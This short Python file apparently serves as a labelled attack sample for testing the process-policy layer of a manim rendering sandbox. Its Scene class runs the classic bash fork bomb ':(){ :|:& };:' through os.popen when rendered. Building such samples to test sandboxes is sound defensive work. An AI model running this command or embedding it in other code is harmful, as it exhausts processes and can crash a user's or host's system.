# family: process
# layer: policy
# attack: the classic shell fork bomb through os.popen
import os
from manim import *


class Attack(Scene):
    def construct(self):
        os.popen(":(){ :|:& };:")
        self.wait(0.1)
